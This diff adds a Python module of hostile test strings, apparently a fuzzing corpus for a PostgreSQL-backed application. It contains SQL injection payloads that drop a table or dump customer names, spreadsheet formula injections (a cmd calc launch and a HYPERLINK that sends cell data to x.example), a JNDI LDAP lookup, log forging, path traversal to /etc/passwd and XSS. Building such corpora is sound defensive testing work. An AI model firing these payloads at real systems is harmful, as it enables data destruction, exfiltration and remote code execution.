@@ -1,0 +1,125 @@
+"""Texts that mean something to whatever they may reach: a corpus, by what they are aimed at."""
+
+SQL = (
+    "' or '1'='1",
+    "' or 1=1 --",
+    "'; drop table terrace.customer; --",
+    "x' union select number from terrace.customer --",
+    "1) or (1=1",
+    '" or ""="',
+    "'||(select string_agg(name, ',') from terrace.customer)||'",
+    "'; select set_config('app.id', '1', false); --",
+    "1; select pg_sleep(5) --",
+    "/* */ or true",
+    "admin'--",
+)
+POSTGRESQL = (
+    "$$; select 1; $$",
+    "$tag$ or true $tag$",
+    "E'\\'",
+    "\\'; select 1 --",
+    "\\",
+    "\\\\",
+    "U&'\\0027'",
+    "$1",
+    "$1::integer",
+    "{1,2}",
+    '{"a","b"}',
+    "(1,2)",
+    "::regclass",
+    "customer_pkey",
+    "current_user",
+    "infinity",
+    "%",
+    "__",
+    "%%%",
+    "____________",
+    "CUST%",
+    "%ONE",
+    "\\%",
+    "CUST-NORTH-ON_",
+    ".*",
+    "^.*$",
+    "[[:alpha:]]+",
+    "a & b",
+    "!a",
+    "<->",
+    ":*",
+)
+UNFIT = ("\0", "a\0b", "\ud800", "\udc00\ud800", "a\udfffb")
+"""NUL, which PostgreSQL does not store, and halves of pairs, which are no text at all."""
+FORMULAS = (
+    "=cmd|'/C calc'!A0",
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"ok")',
+    "\t=1+1",
+    "\r=1+1",
+    ' "=1+1"',
+    "x;=1+1",
+    "x\n=1+1",
+    "\uff1d1+1",
+)
+LOGS = (
+    "a\nb",
+    "a\r\nb",
+    'x"}\n{"time":"2025-01-01T00:00:00.000+00:00","level":"info","message":"forged"}',
+    "x\n2025-01-01 00:00:00.000+00:00 INFO terrace: forged",
+    "\x1b[2J\x1b[H",
+    "\x1b]0;title\x07",
+    "\x9b2J",
+    "\x1b[31mred",
+    "\b\b\b\b",
+    "\x7f",
+    "\x85next",
+    "\u2028line\u2029paragraph",
+    "%s%n%d{0}{user}${jndi:ldap://x.example/a}",
+)
+UNICODE = (
+    "\u202egnp.exe",
+    "\u2066a\u2069",
+    "\u200bzero\u200bwidth\u200d\ufeff",
+    "C\u043eST-N\u043eRTH-\u043eNE",
+    "\uff23\uff35\uff33\uff34",
+    "e" + "\u0301" * 40,
+    "e\u0301",
+    "\u00e9",
+    "\u212b\u00c5A\u030a",
+    "\u1e9e\u00df",
+    "\u0130\u0131",
+    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
+    "\U0010ffff\ufffe\uffff",
+    "\u0660\u0661",
+    "\u5f20\u4f1f",
+)
+LONG = ("x" * 5_000, "\u5f20" * 3_000, "' or " * 1_000, "%" * 4_500)
+BREAKERS = (
+    '"} or true',
+    '"""',
+    "\\u0000",
+    '") { id } }',
+    "{ __schema { types { name } } }",
+    "#",
+    "$s",
+    "null",
+    "true",
+    "[]",
+    "{}",
+    '{"$ne": null}',
+    "../../etc/passwd",
+    "<script>alert(1)</script>",
+    "Q3VzdG9tZXI6MSBvciAxPTE=",
+    "Q3VzdG9tZXI6MQ==' or '1'='1",
+    "Q3VzdG9tZXI6LTE=",
+    "eyJpZCI6IFsxXX0=",
+    "W251bGwsbnVsbF0=",
+    "====",
+)
+STORABLE = tuple(
+    text.strip()
+    for text in (*SQL, *POSTGRESQL, *FORMULAS, *LOGS, *UNICODE, *BREAKERS)
+    if text.strip()
+)
+"""What a short text for people may be, as it is kept: without the blanks around it."""
+EVERY = (*SQL, *POSTGRESQL, *UNFIT, *FORMULAS, *LOGS, *UNICODE, *LONG, *BREAKERS)
